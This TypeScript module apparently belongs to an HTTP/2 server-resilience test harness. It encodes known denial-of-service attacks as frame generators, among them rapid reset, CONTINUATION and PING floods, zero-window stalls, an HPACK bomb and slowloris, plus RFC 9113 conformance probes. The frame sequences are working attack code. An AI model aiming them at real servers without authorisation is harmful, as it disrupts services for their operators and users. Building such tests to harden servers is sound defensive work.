// The published HTTP/2 denial-of-service attacks, named after their CVEs,
// as frame generators for FloodSocket. Each attack says whether it is a
// flood (the server should cut the connection off quickly) and whether the
// attacker reads what the server sends (a non-reader makes the server queue).
// Frames come from impl/http2's encoder and impl/hpack's deflater; nothing
// here is a general client.
import { HDDeflater } from '../../impl/hpack/index.js';
import {
  CLIENT_PREFACE,
  encodeContinuation,
  encodeData,
  encodeHeadersFrame,
  encodePing,
  encodePriority,
  encodeRstStream,
  encodeSettings,
  encodeSettingsAck,
  encodeWindowUpdate,
  ErrorCode,
  SettingId,
  type SettingPair,
} from '../../impl/http2/index.js';

/** What one attacker connection keeps between batches. */
export class AttackState {
  readonly deflater = new HDDeflater();
  nextStreamId = 1;
  step = 0;
  /** The server's SETTINGS once the connection has read them (null before, and for non-readers). */
  serverSettings: ReadonlyMap<number, number> | null = null;
  /** Set by a probe that finds nothing to probe on this connection, with the reason. */
  notProbed: string | null = null;

  newStream(): number {
    const id = this.nextStreamId;
    this.nextStreamId += 2;
    return id;
  }

  request(path = '/', method = 'GET', extra: Array<[string, string]> = []): Uint8Array {
    return this.deflater.deflate([[':method', method], [':scheme', 'https'], [':authority', 'localhost'], [':path', path], ...extra]);
  }
}

/**
 * A probe's expected answer: what RFC 9113 requires of the server, as
 * `goaway CODE` or `rst_stream CODE` (the GOAWAY, or the first RST_STREAM, a
 * connection got). Every attacker connection must get one of them; any
 * other answer, or none, fails the attack whatever the legit client saw.
 */
export interface ExpectedAnswer {
  readonly section: string;
  readonly answers: readonly string[];
}

/** What one batch writes: frames (counted as `count`), then an optional pause before the next. */
export interface Batch {
  frames: Uint8Array[];
  count: number;
  pauseMs?: number;
}

export interface Attack {
  /** `CVE-…-short-name` (or `RFC9113-section-short-name` for a probe of a MUST): what --only takes. */
  readonly name: string;
  /** The CVE, or the RFC section a probe checks. */
  readonly cve: string;
  readonly title: string;
  /** A flood: the verdict wants the attacker cut off within a second. */
  readonly flood: boolean;
  /** False: the attacker never reads, so whatever the server answers queues up. */
  readonly reads: boolean;
  /** Attacker connections at once. */
  readonly parallel: number;
  readonly settings: SettingPair[];
  /** False: the connection opens with nothing sent (the batches write the preface themselves). Default true. */
  readonly preface?: boolean;
  readonly expect?: ExpectedAnswer;
  /** Frames to write next (and how many frames that is), or null: nothing more to send on this connection, just hold it. */
  batch(s: AttackState): Batch | null;
}

const BATCH = 512;
const EMPTY = new Uint8Array(0);
const repeat = (n: number, make: (i: number) => Uint8Array): Batch => {
  const frames = Array.from({ length: n }, (_, i) => make(i));
  return { frames, count: n };
};
/** One frame written `n` times, as one buffer (the cheapest way to flood). */
const times = (frame: Uint8Array, n: number): Batch => ({ frames: [Buffer.concat(Array.from({ length: n }, () => frame))], count: n });

/** HPACK (RFC 7541 §6.2.1): a literal with incremental indexing of a new name; sizes under 127 octets only. */
function literalIndexed(name: string, value: Uint8Array): Uint8Array {
  return Buffer.concat([Buffer.from([0x40, name.length]), Buffer.from(name, 'latin1'), Buffer.from([0x7f]), varint(value.length - 127), value]);
}
function varint(n: number): Buffer {
  const out: number[] = [];
  while (n >= 128) {
    out.push((n & 0x7f) | 0x80);
    n >>>= 7;
  }
  out.push(n);
  return Buffer.from(out);
}

/** GET https://localhost/ from the static table and a literal never indexed, so index 62 stays ours. */
const STATIC_GET = Buffer.concat([Buffer.from([0x82, 0x87, 0x84, 0x01, 9]), Buffer.from('localhost', 'latin1')]);
const PING = encodePing(new Uint8Array(8), false);

/** Slowloris: the whole opening of a connection up to its first request, sent one octet at a time. */
const SLOW_OPENING = Buffer.concat([CLIENT_PREFACE, encodeSettings([]), encodeSettingsAck(), encodeHeadersFrame(1, STATIC_GET, { endStream: true, endHeaders: true })]);
const SLOW_OCTET_MS = 200;
/** The stream-limit probe opens this many streams past the server's limit... */
const STREAMS_PAST_LIMIT = 50;
/** ...when the limit is at most this; above it, the server has no limit worth the name (each stream costs it a response). */
const MAX_PROBED_STREAM_LIMIT = 1000;
const MAX_WINDOW = 2 ** 31 - 1;

export const ATTACKS: readonly Attack[] = [
  {
    name: 'CVE-2019-9518-empty-data',
    cve: 'CVE-2019-9518',
    title: 'empty DATA frames without END_STREAM on an open request',
    flood: true,
    reads: true,
    parallel: 1,
    settings: [],
    batch(s) {
      if (s.step++ === 0) return { frames: [encodeHeadersFrame(s.newStream(), s.request('/', 'POST'), { endHeaders: true })], count: 1 };
      return times(encodeData(1, EMPTY, false), BATCH);
    },
  },
  {
    name: 'CVE-2019-9518-empty-continuation',
    cve: 'CVE-2019-9518',
    title: 'HEADERS without END_HEADERS, then empty CONTINUATION frames forever',
    flood: true,
    reads: true,
    parallel: 1,
    settings: [],
    batch(s) {
      if (s.step++ === 0) return { frames: [encodeHeadersFrame(s.newStream(), s.request(), { endStream: true, endHeaders: false })], count: 1 };
      return times(encodeContinuation(1, EMPTY, false), BATCH);
    },
  },
  {
    name: 'CVE-2024-27316-continuation-flood',
    cve: 'CVE-2024-27316',
    title: 'CONTINUATION frames full of header bytes that never end the block',
    flood: true,
    reads: true,
    parallel: 1,
    settings: [],
    batch(s) {
      if (s.step++ === 0) return { frames: [encodeHeadersFrame(s.newStream(), s.request(), { endStream: true, endHeaders: false })], count: 1 };
      return repeat(8, () => encodeContinuation(1, new Uint8Array(16_000).fill(0x40), false));
    },
  },
  {
    name: 'CVE-2019-9512-ping-flood',
    cve: 'CVE-2019-9512',
    title: 'PING frames, never reading the ACKs',
    flood: true,
    reads: false,
    parallel: 1,
    settings: [],
    batch: () => times(PING, BATCH),
  },
  {
    name: 'CVE-2019-9515-settings-flood',
    cve: 'CVE-2019-9515',
    title: 'SETTINGS frames, never reading the ACKs',
    flood: true,
    reads: false,
    parallel: 1,
    settings: [],
    batch: () => times(encodeSettings([{ id: SettingId.INITIAL_WINDOW_SIZE, value: 65_535 }]), BATCH),
  },
  {
    name: 'CVE-2019-9513-priority-churn',
    cve: 'CVE-2019-9513',
    title: 'PRIORITY frames reshuffling the dependency tree of idle streams',
    flood: true,
    reads: true,
    parallel: 1,
    settings: [],
    batch(s) {
      const base = 1 + 2 * ((s.step++ * 7) % 50);
      return repeat(BATCH, (i) => encodePriority(base + 2 * (i % 100), { exclusive: i % 3 === 0, dependsOn: base + 2 * ((i * 37) % 100) + 2, weight: i & 0xff }));
    },
  },
  {
    name: 'CVE-2023-44487-rapid-reset',
    cve: 'CVE-2023-44487',
    title: 'HEADERS then RST_STREAM at once, as fast as possible',
    flood: true,
    reads: true,
    parallel: 1,
    settings: [],
    batch(s) {
      const frames: Uint8Array[] = [];
      for (let i = 0; i < 100 && s.nextStreamId < 2 ** 31 - 2; i++) {
        const id = s.newStream();
        frames.push(encodeHeadersFrame(id, s.request(), { endStream: true, endHeaders: true }), encodeRstStream(id, ErrorCode.CANCEL));
      }
      return frames.length === 0 ? null : { frames, count: frames.length };
    },
  },
  {
    name: 'CVE-2019-9514-reset-flood',
    cve: 'CVE-2019-9514',
    title: 'requests the server must reset (WINDOW_UPDATE 0 on each), never reading the RST_STREAMs',
    flood: true,
    reads: false,
    parallel: 1,
    settings: [],
    batch(s) {
      const frames: Uint8Array[] = [];
      for (let i = 0; i < 100 && s.nextStreamId < 2 ** 31 - 2; i++) {
        const id = s.newStream();
        frames.push(encodeHeadersFrame(id, s.request(), { endStream: true, endHeaders: true }), encodeWindowUpdate(id, 0));
      }
      return frames.length === 0 ? null : { frames, count: frames.length };
    },
  },
  {
    name: 'CVE-2019-9517-zero-window',
    cve: 'CVE-2019-9517',
    title: 'INITIAL_WINDOW_SIZE 0, many requests for large bodies, never reading',
    flood: false,
    reads: false,
    parallel: 8,
    settings: [{ id: SettingId.INITIAL_WINDOW_SIZE, value: 0 }],
    batch(s) {
      if (s.step++ > 0) return null;
      return repeat(100, () => encodeHeadersFrame(s.newStream(), s.request('/bytes/1000000'), { endStream: true, endHeaders: true }));
    },
  },
  {
    name: 'CVE-2019-9511-data-dribble',
    cve: 'CVE-2019-9511',
    title: 'INITIAL_WINDOW_SIZE 0, many requests, then 1-byte WINDOW_UPDATEs on every stream, never reading',
    flood: true,
    reads: false,
    parallel: 1,
    settings: [{ id: SettingId.INITIAL_WINDOW_SIZE, value: 0 }],
    batch(s) {
      if (s.step++ === 0) return repeat(100, () => encodeHeadersFrame(s.newStream(), s.request('/bytes/1000000'), { endStream: true, endHeaders: true }));
      return repeat(BATCH, (i) => encodeWindowUpdate(1 + 2 * (i % 100), 1));
    },
  },
  {
    name: 'CVE-2019-9516-zero-length-headers',
    cve: 'CVE-2019-9516',
    title: 'requests carrying hundreds of header fields with an empty name and value',
    flood: true,
    reads: true,
    parallel: 1,
    settings: [],
    batch(s) {
      // HPACK literal without indexing, new name (RFC 7541 §6.2.2), name and value of length 0.
      const empties = Buffer.alloc(3 * 300);
      return repeat(50, () => encodeHeadersFrame(s.newStream(), Buffer.concat([s.request(), empties]), { endStream: true, endHeaders: true }));
    },
  },
  {
    name: 'CVE-2016-6581-hpack-bomb',
    cve: 'CVE-2016-6581',
    title: 'one 4 KiB header in the HPACK table, then blocks that reference it thousands of times',
    flood: true,
    reads: true,
    parallel: 1,
    settings: [],
    batch(s) {
      // The first block inserts the entry (index 62); every later block repeats index 62 (one octet each).
      const insert = s.step++ === 0 ? literalIndexed('x-bomb', new Uint8Array(4000).fill(0x61)) : EMPTY;
      const refs = Buffer.alloc(12_000, 0x80 | 62); // with the insert, one frame under 16 384 octets
      return { frames: [encodeHeadersFrame(s.newStream(), Buffer.concat([STATIC_GET, insert, refs]), { endStream: true, endHeaders: true })], count: 1 };
    },
  },
  {
    name: 'CVE-2007-6750-slowloris',
    cve: 'CVE-2007-6750',
    title: `100 connections at once, each sending its preface, SETTINGS and first request one octet every ${SLOW_OCTET_MS} ms`,
    flood: false,
    reads: true,
    parallel: 100,
    settings: [],
    preface: false,
    batch(s) {
      if (s.step >= SLOW_OPENING.length) return null;
      const octet = SLOW_OPENING.subarray(s.step, ++s.step);
      return { frames: [octet], count: 0, pauseMs: SLOW_OCTET_MS };
    },
  },
  {
    name: 'RFC9113-5.1.2-stream-limit',
    cve: 'RFC 9113 §5.1.2',
    title: `INITIAL_WINDOW_SIZE 0 and ${STREAMS_PAST_LIMIT} requests more than the server's SETTINGS_MAX_CONCURRENT_STREAMS at once, held open`,
    flood: false,
    reads: true,
    parallel: 4,
    settings: [{ id: SettingId.INITIAL_WINDOW_SIZE, value: 0 }],
    // §5.1.2: a HEADERS frame over the advertised limit is a stream error PROTOCOL_ERROR or REFUSED_STREAM (a connection error is a stream error's stronger form, §5.4.1).
    expect: { section: '5.1.2', answers: ['rst_stream REFUSED_STREAM', 'rst_stream PROTOCOL_ERROR', 'goaway PROTOCOL_ERROR'] },
    batch(s) {
      if (s.step > 0) return null;
      // The limit is the server's to advertise (§6.5.2; none means unlimited): read it first.
      if (s.serverSettings === null) return { frames: [], count: 0, pauseMs: 20 };
      s.step++;
      const limit = s.serverSettings.get(SettingId.MAX_CONCURRENT_STREAMS);
      if (limit === undefined || limit > MAX_PROBED_STREAM_LIMIT) {
        s.notProbed = `the server advertises ${limit === undefined ? 'no SETTINGS_MAX_CONCURRENT_STREAMS (unlimited)' : `SETTINGS_MAX_CONCURRENT_STREAMS ${limit}`}: no limit a probe can exceed, so a client may keep that many streams (and their responses) open`;
        return null;
      }
      return repeat(limit + STREAMS_PAST_LIMIT, () => encodeHeadersFrame(s.newStream(), s.request('/bytes/1000000'), { endStream: true, endHeaders: true }));
    },
  },
  {
    name: 'RFC9113-6.9.1-window-overflow',
    cve: 'RFC 9113 §6.9.1',
    title: 'a connection WINDOW_UPDATE of 2^31-1 on top of the initial 65 535, past the largest window',
    flood: true,
    reads: true,
    parallel: 1,
    settings: [],
    // §6.9.1: a sender MUST NOT allow a window above 2^31-1; if it does, on the connection, "the sender MUST terminate the connection with FLOW_CONTROL_ERROR".
    expect: { section: '6.9.1', answers: ['goaway FLOW_CONTROL_ERROR'] },
    batch(s) {
      if (s.step++ > 0) return null;
      return { frames: [encodeWindowUpdate(0, MAX_WINDOW)], count: 1 };
    },
  },
];

export function attackNamed(name: string): Attack | undefined {
  return ATTACKS.find((a) => a.name === name);
}
